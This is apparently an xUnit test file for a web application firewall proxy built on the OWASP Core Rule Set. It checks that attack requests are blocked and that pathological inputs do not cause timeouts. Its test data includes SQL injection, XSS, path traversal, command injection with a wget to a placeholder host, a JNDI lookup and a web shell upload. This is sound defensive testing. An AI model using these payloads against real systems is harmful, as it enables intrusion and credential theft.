using FilterProxy.Filters.Tests.Waf.Detection;
using FilterProxy.Filters.Waf.Collections;
using FilterProxy.Filters.Waf.Operators;
using Xunit;
using Xunit.Abstractions;

namespace FilterProxy.Filters.Tests.Waf;

public sealed class CoreRulesTests(ITestOutputHelper output)
{
    [CrsFact]
    public void The_whole_rule_set_loads_unmodified()
    {
        Assert.True(CoreRules.Set.All.Length > 800, $"{CoreRules.Set.All.Length} rules");
        Assert.Equal("OWASP_CRS/3.3.4", Assert.Single(CoreRules.Set.Settings.Signatures));
        output.WriteLine($"{CoreRules.Set.All.Length} rules, {CoreRules.Set.LiteralOwners} with literals, {CoreRules.Set.Literals.States} states, {CoreRules.Set.Forms.Count} forms");
    }

    [CrsTheory]
    [InlineData("/?id=1'%20OR%20'1'='1")]
    [InlineData("/?id=1%20UNION%20SELECT%20username,password%20FROM%20users--")]
    [InlineData("/?id=1;DROP%20TABLE%20users")]
    [InlineData("/?id=sleep(5)%23")]
    [InlineData("/?q=%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("/?q=%253Cscript%253Ealert(1)%253C/script%253E")]
    [InlineData("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E")]
    [InlineData("/?q=javascript:alert(document.cookie)")]
    [InlineData("/?file=../../../../etc/passwd")]
    [InlineData("/?file=..%252f..%252f..%252fetc%252fpasswd")]
    [InlineData("/?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd")]
    [InlineData("/?url=http://203.0.113.7/shell.txt?")]
    [InlineData("/?cmd=;cat%20/etc/passwd")]
    [InlineData("/?cmd=$(wget%20http://x.example/a)")]
    [InlineData("/?x=%3C?php%20phpinfo();%20?%3E")]
    [InlineData("/?x=%24%7Bjndi:ldap://x.example/a%7D")]
    [InlineData("/.git/config")]
    [InlineData("/backup.sql")]
    [InlineData("/?a=%0d%0aSet-Cookie:%20x=1")]
    [InlineData("/?a=x%00y")]
    [InlineData("/?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E")]
    [InlineData("/?q=fine&q=%3Cscript%3Ealert(1)%3C/script%3E&q=fine")]
    [InlineData("/?q=%u003cscript%u003ealert(1)%u003c/script%u003e")]
    [InlineData("/?q=%26lt%3Bscript%26gt%3Balert(1)")]
    [InlineData("/?id=1'/**/UNION/*!50000SELECT*/(password)/**/FROM/**/users--%20-")]
    [InlineData("/?file=..%c0%af..%c0%afetc/passwd")]
    [InlineData("/?file=%252e%252e%252fetc%252fpasswd")]
    public void Attacks_are_refused_at_paranoia_1(string target)
    {
        var transaction = CoreRules.Run(1, "GET", target);
        Assert.True(transaction.Interception is not null, $"passed: {CoreRules.Describe(transaction)}");
    }

    [CrsTheory]
    [InlineData("application/x-www-form-urlencoded", "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E")]
    [InlineData("application/json", """{"user":{"name":"x' OR 1=1 --"}}""")]
    [InlineData("application/json", """{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}""")]
    [InlineData("text/xml", "<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>")]
    [InlineData("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1 union select password from users\r\n--xyz--\r\n")]
    [InlineData("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"a\"; filename=\"shell.php\"\r\n\r\nx\r\n--xyz--\r\n")]
    [InlineData("application/json", "{\"a\":")]
    public void Attacks_in_bodies_are_refused_at_paranoia_1(string type, string body)
    {
        var transaction = CoreRules.Run(1, "POST", "/", type, CoreRules.Bytes(body));
        Assert.True(transaction.Interception is not null, $"passed: {CoreRules.Describe(transaction)}");
    }

    [CrsFact]
    public void A_rule_that_matches_is_always_found_by_its_literals()
    {
        var run = new OperatorRun(CoreRules.Run(1, "GET", "/"));
        var texts = BenignCorpus.Tuned(60).Select(text => text.Value)
            .Concat(["<script>alert(1)</script>", "1' or '1'='1", "union all select @@version", "../../etc/passwd", "; cat /etc/passwd | sh", "system('id')", "javascript:alert", "<img src=x onerror=a>", "java.lang.Runtime", "%{(#a)}", "$(id)", "`id`", "O:8:\"stdClass\":0:{}"]);
        foreach (var text in texts.Select(text => System.Text.Encoding.Latin1.GetString(CoreRules.Bytes(text))))
        {
            var form = new Form(text);
            foreach (var rule in CoreRules.Set.All.Where(rule => rule.LiteralOwner >= 0))
            {
                if (rule.Operator.Matches(text, run))
                {
                    Assert.True(form.Has(CoreRules.Set.Literals, CoreRules.Set.LiteralOwners, rule.LiteralOwner), $"{rule}: '{text}'");
                }
            }
        }
    }

    [CrsTheory]
    [InlineData("a")]
    [InlineData(" ")]
    [InlineData("(")]
    [InlineData("<")]
    [InlineData("../")]
    [InlineData("' or '")]
    [InlineData("<a ")]
    [InlineData("%u0041")]
    [InlineData("&#x41;")]
    [InlineData("1,")]
    [InlineData("/*")]
    [InlineData("a=a;")]
    [InlineData("on a=")]
    [InlineData("\\u0041")]
    [InlineData("$(a")]
    [InlineData("'")]
    [InlineData("\"")]
    [InlineData("`")]
    [InlineData("' ")]
    [InlineData("'\"")]
    [InlineData("-")]
    [InlineData("; ")]
    [InlineData("|")]
    [InlineData("=")]
    [InlineData("{")]
    [InlineData("select ")]
    [InlineData("union(")]
    [InlineData("<!--")]
    [InlineData("\n")]
    [InlineData("a.")]
    public void Texts_made_to_keep_expressions_busy_do_not(string piece)
    {
        var text = string.Concat(Enumerable.Repeat(piece, 8000 / piece.Length)) + "!";
        var transaction = CoreRules.Run(4, "POST", "/", "application/x-www-form-urlencoded", CoreRules.Bytes("a=" + Uri.EscapeDataString(text)));
        Assert.Null(transaction.TimedOut);
    }
}
